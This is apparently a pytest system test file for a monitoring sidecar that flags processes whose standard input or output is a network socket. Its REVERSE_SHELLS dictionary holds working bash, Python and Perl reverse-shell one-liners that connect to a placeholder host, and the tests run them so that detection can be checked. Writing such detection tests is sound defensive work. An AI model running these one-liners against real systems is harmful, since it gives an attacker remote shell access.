"""Sockets as the stdio of real processes: which are told, when, and as what."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from attestation.channel import Scope
from attestation.facts import ExecutionFact, Opened, StdioFact
from attestation.patterns import matches
from policies.appraise.sockets import SHELLS
from tests.system.measurer.conftest import needs_root
from tests.system.measurer.networks import ALONE, OURS, THEIRS, Elsewhere, inside
from tests.system.measurer.stage import Sidecar, User, Workload

CALL = (
    "import socket; connected = lambda *to: socket.create_connection(to);"
    "sh = lambda command, **given: subprocess.Popen(['/bin/sh', '-c', command], **given)"
)


@pytest.fixture
def workload() -> Iterator[Workload]:
    running = Workload(ALONE)
    running.do(CALL)
    yield running
    running.end()


@pytest.fixture
def elsewhere(workload: Workload) -> Iterator[Elsewhere]:
    there = Elsewhere(workload)
    yield there
    there.close()


@pytest.fixture
def sidecar(workload: Workload, tree: Path) -> Iterator[Sidecar]:
    with Sidecar(Scope(workload.pid, (str(tree),))) as running:
        running.settle()
        yield running


def shells(sidecar: Sidecar, workload: Workload) -> list[StdioFact]:
    """What was told until a shell that is started now on a socket of its own was."""
    workload.do("a = socket.create_server(('127.0.0.1', 0)); b = connected(*a.getsockname())")
    workload.do("sh('sleep 5; :', stdin=b, stderr=b)")
    sidecar.expect(StdioFact, lambda each: each.descriptors == (0, 2))
    return [each for each in sidecar.seen(StdioFact) if each.descriptors != (0, 2)]


@needs_root
def test_a_shell_that_is_started_on_a_connection_is_told_at_once_with_its_other_end(
    sidecar: Sidecar, workload: Workload, elsewhere: Elsewhere
) -> None:
    for _ in range(5):  # all five would hardly be found by looking once a second
        workload.do(
            f"out = connected('{THEIRS}', {elsewhere.port}); sh('read line', stdin=out, stdout=out, stderr=out)"
        )
        told = sidecar.expect(StdioFact, seconds=0.4)
        assert (told.descriptors, told.protocol) == ((0, 1, 2), "TCP")
        assert (told.opened, told.remote) == (Opened.HERE, f"{THEIRS}:{elsewhere.port}")
        assert told.process.executable == sidecar.seen(ExecutionFact)[-1].path


REVERSE_SHELLS = {
    "bash": "['bash', '-c', 'exec bash -i >& /dev/tcp/THEIRS/PORT 0>&1']",
    "python": "['python3', '-c', 'import os, pty, socket; s = socket.create_connection((\\'THEIRS\\', PORT));"
    " [os.dup2(s.fileno(), each) for each in (0, 1, 2)]; os.execv(\\'/bin/sh\\', [\\'sh\\'])']",
    "perl": "['perl', '-MIO', '-e', '$c = IO::Socket::INET->new(q(THEIRS:PORT)); STDIN->fdopen($c, q(r));"
    " $~->fdopen($c, q(w)); system $_ while <>']",
}


@needs_root
@pytest.mark.parametrize("name", REVERSE_SHELLS)
def test_a_reverse_shell_out_of_the_books_is_told(
    sidecar: Sidecar, workload: Workload, elsewhere: Elsewhere, name: str
) -> None:
    command = REVERSE_SHELLS[name].replace("THEIRS", THEIRS).replace("PORT", str(elsewhere.port))
    workload.do(f"shell = subprocess.Popen({command})")
    told = sidecar.expect(StdioFact)
    assert (told.opened, told.remote) == (Opened.HERE, f"{THEIRS}:{elsewhere.port}")
    assert matches(told.process.executable, SHELLS)
    workload.do("shell.kill(); shell.wait()")


@needs_root
def test_one_that_is_given_an_accepted_connection_is_told_as_that(sidecar: Sidecar, workload: Workload) -> None:
    workload.do(f"server = socket.create_server(('{OURS}', 7000))")
    with inside(workload):
        caller = socket.create_connection((OURS, 7000), source_address=(THEIRS, 0))
    workload.do("got = server.accept()[0]; server.close(); sh('read line', stdin=got)")
    told = sidecar.expect(StdioFact)
    assert (told.descriptors, told.opened) == ((0,), Opened.THERE)
    assert told.remote == f"{THEIRS}:{caller.getsockname()[1]}"
    caller.close()


@needs_root
def test_who_puts_a_socket_there_without_executing_anything_is_told_by_the_next_look(
    sidecar: Sidecar, workload: Workload, elsewhere: Elsewhere
) -> None:
    workload.do(f"out = connected('{THEIRS}', {elsewhere.port})")
    workload.do("child = os.fork() or (os.dup2(out.fileno(), 1), os.dup2(out.fileno(), 0), os.read(0, 1), os._exit(0))")
    told = sidecar.expect(StdioFact, seconds=3)
    assert (told.descriptors, told.remote) == ((0, 1), f"{THEIRS}:{elsewhere.port}")


@needs_root
def test_it_is_told_once_and_again_for_what_is_executed_next(
    sidecar: Sidecar, workload: Workload, elsewhere: Elsewhere
) -> None:
    workload.do(f"out = connected('{THEIRS}', {elsewhere.port}); one = sh('read line; exec sleep 9', stdin=out)")
    first = sidecar.expect(StdioFact)
    elsewhere.accept()
    elsewhere.held[0].send(b"on\n")
    again = sidecar.expect(StdioFact)
    assert (first.process.pid, again.process.executable) == (again.process.pid, "/usr/bin/sleep")
    assert len(shells(sidecar, workload)) == 2


@needs_root
@pytest.mark.parametrize(
    "given",
    [
        "stdin=subprocess.PIPE, stdout=subprocess.PIPE",
        "stdin=subprocess.DEVNULL",
        "stdin=socket.socketpair()[0]",
        "stdin=socket.create_server(('127.0.0.1', 0))",
        "pass_fds=[connected('203.0.113.9', PORT).fileno()]",
    ],
    ids=["pipes", "null", "unix", "listener", "another-descriptor"],
)
def test_what_is_no_connection_of_the_network_or_not_stdio_is_not_told(
    sidecar: Sidecar, workload: Workload, elsewhere: Elsewhere, given: str
) -> None:
    workload.do(f"kept = sh('sleep 5; :', {given.replace('PORT', str(elsewhere.port))})")
    assert shells(sidecar, workload) == []


def test_an_ordinary_users_measurer_tells_by_looking(nobody: User, tree: Path) -> None:
    running = nobody.workload()
    running.do(CALL)
    with nobody.sidecar(Scope(running.pid, (str(tree),))) as sidecar:
        sidecar.settle()
        running.do("server = socket.create_server(('127.0.0.1', 0)); out = connected(*server.getsockname())")
        running.do("sh('read line', stdin=out)")
        told = sidecar.expect(StdioFact)
        assert (told.descriptors, told.opened) == ((0,), Opened.HERE)
    running.end()
